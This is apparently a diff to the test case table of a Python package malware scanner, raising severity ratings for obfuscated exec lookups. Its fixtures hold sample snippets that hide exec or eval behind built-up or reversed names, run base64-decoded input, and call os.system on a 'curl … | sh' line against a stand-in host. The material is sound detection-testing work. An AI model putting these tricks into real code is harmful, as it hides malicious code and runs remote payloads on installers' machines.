@@ -205,8 +205,14 @@ CASES = [
               "cfg = os.path.join(os.path.expanduser('~'), '.config', 'demo.toml')\n"),
      "code.credential-access", None, "benign: the .ssh directory itself and an app's own config"),
     # ---- obfuscation
-    (setup_py("import builtins\nf = getattr(builtins, 'ex' + 'ec')\n"), "code.obfuscation", M,
-     "exec fetched by a built-up name"),
+    (setup_py("import builtins\nf = getattr(builtins, 'ex' + 'ec')\n"), "code.obfuscation", H,
+     "exec fetched by a built-up name at install: hiding"),
+    ({"demo/__init__.py": "_f = getattr(__builtins__, 'ex' + 'ec', None)\n"}, "code.obfuscation", H,
+     "exec fetched by a built-up name on import"),
+    ({"demo/util.py": "import base64\ndef run(b):\n    getattr(__builtins__, 'ev' + 'al')(base64.b64decode(b))\n"},
+     "code.obfuscation", L, "a built-up exec name in a function nothing calls"),
+    (setup_py("__builtins__.__dict__['ex' + 'ec']('print(1)')\n"), "code.obfuscation", H,
+     "exec taken from the builtins __dict__ by a built-up key"),
     ({"demo/compat.py": "text_type = getattr(__builtins__, 'unicode', str)\n"}, "code.obfuscation", L,
      "a Python 2 compat lookup: low only"),
     (setup_py("from pytransform import pyarmor_runtime\npyarmor_runtime()\n"), "code.obfuscation", M,
@@ -282,7 +288,7 @@ CASES = [
      "code.download-exec", C, "__import__('os') is the module os"),
     (setup_py("import os\ngetattr(os, 'sys' + 'tem')('curl -s https://x.example/i.sh | sh')\n"),
      "code.download-exec", C, "getattr(os, built-up name) is os.system"),
-    (setup_py("import builtins\nf = getattr(builtins, 'cexe'[::-1])\n"), "code.obfuscation", M,
+    (setup_py("import builtins\nf = getattr(builtins, 'cexe'[::-1])\n"), "code.obfuscation", H,
      "a reversed literal folds to 'exec'"),
     # ---- facts: environment, with-blocks, codecs, builtins tricks
     (setup_py("import urllib.request\nwith urllib.request.urlopen('https://x.example/p') as r:\n"
